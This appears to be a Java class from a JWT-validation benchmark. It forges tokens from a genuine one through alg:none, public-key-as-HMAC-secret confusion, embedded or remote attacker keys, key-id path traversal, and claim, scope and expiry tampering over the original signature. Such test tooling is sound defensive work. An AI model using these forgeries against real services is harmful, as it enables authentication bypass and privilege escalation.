package io.tokenrelay.benchmarks.abuse.attack;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.PlainHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.factories.DefaultJWSSignerFactory;
import com.nimbusds.jose.jwk.AsymmetricJWK;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import io.tokenrelay.benchmarks.abuse.product.Product;
import io.tokenrelay.benchmarks.http.Http;
import java.net.URI;
import java.text.ParseException;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import java.util.Map;
import java.util.function.UnaryOperator;

/** Makes false tokens out of a genuine one of a product. */
final class Forger {

    private final Product product;
    private final SignedJWT genuine;
    private final JWSHeader header;
    private final JWTClaimsSet claims;
    private final JWK own;

    Forger(Product product, String token) {
        this.product = product;
        try {
            this.genuine = SignedJWT.parse(token);
            this.header = genuine.getHeader();
            this.claims = genuine.getJWTClaimsSet();
            this.own = JWSAlgorithm.Family.RSA.contains(header.getAlgorithm())
                    ? new RSAKeyGenerator(2048).keyID("forger").generate()
                    : new ECKeyGenerator(Curve.P_256).keyID("forger").generate();
        } catch (ParseException | JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /** {@code alg: none}. */
    String unsigned() {
        return new PlainJWT(new PlainHeader.Builder().type(header.getType()).build(), claims).serialize();
    }

    /** HS256 with the issuer's public key as the secret. */
    String publicKeyAsSecret() {
        try {
            JWK published =
                    JWKSet.parse(Http.get(product.jwks(), Map.of()).body()).getKeyByKeyId(header.getKeyID());
            SignedJWT jwt = new SignedJWT(
                    new JWSHeader.Builder(JWSAlgorithm.HS256)
                            .type(header.getType())
                            .keyID(header.getKeyID())
                            .build(),
                    claims);
            jwt.sign(new MACSigner(((AsymmetricJWK) published).toPublicKey().getEncoded()));
            return jwt.serialize();
        } catch (ParseException | JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    String foreignKey() {
        return signed(builder -> builder.keyID("forger"), claims);
    }

    String stolenKeyId() {
        return signed(UnaryOperator.identity(), claims);
    }

    String ownJwk() {
        return signed(builder -> builder.jwk(own.toPublicJWK()), claims);
    }

    String ownJwkAddress() {
        return signed(builder -> builder.keyID("forger").jwkURL(URI.create("http://127.0.0.1:1/jwks")), claims);
    }

    String keyIdAsPath() {
        return signed(builder -> builder.keyID("../../../../dev/null"), claims);
    }

    String otherIssuer() {
        return signed(
                builder -> builder.keyID("forger"),
                new JWTClaimsSet.Builder(claims)
                        .issuer("https://issuer.example")
                        .build());
    }

    String naming(String subject) {
        return signed(
                UnaryOperator.identity(),
                new JWTClaimsSet.Builder(claims).subject(subject).build());
    }

    /** The genuine signature under more scopes. */
    String widened() {
        return edited(new JWTClaimsSet.Builder(claims)
                .claim("scope", "orders:read orders:write payments:charge")
                .build());
    }

    /** The genuine signature under a later expiry. */
    String prolonged() {
        return edited(new JWTClaimsSet.Builder(claims)
                .expirationTime(Date.from(Instant.now().plus(Duration.ofDays(1))))
                .build());
    }

    /** The genuine signature under another type. */
    String retyped() {
        Base64URL other = new JWSHeader.Builder(header)
                .type(new JOSEObjectType("logout+jwt"))
                .build()
                .toBase64URL();
        return other + "." + part(1) + "." + part(2);
    }

    /** The genuine token without its signature. */
    String stripped() {
        return part(0) + "." + part(1) + ".";
    }

    private String edited(JWTClaimsSet other) {
        return part(0) + "." + other.toPayload().toBase64URL() + "." + part(2);
    }

    private Base64URL part(int index) {
        return genuine.getParsedParts()[index];
    }

    private String signed(UnaryOperator<JWSHeader.Builder> edit, JWTClaimsSet signedClaims) {
        JWSHeader.Builder builder = new JWSHeader.Builder(header.getAlgorithm())
                .type(header.getType())
                .keyID(header.getKeyID());
        SignedJWT jwt = new SignedJWT(edit.apply(builder).build(), signedClaims);
        try {
            jwt.sign(new DefaultJWSSignerFactory().createJWSSigner(own, header.getAlgorithm()));
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
        return jwt.serialize();
    }
}
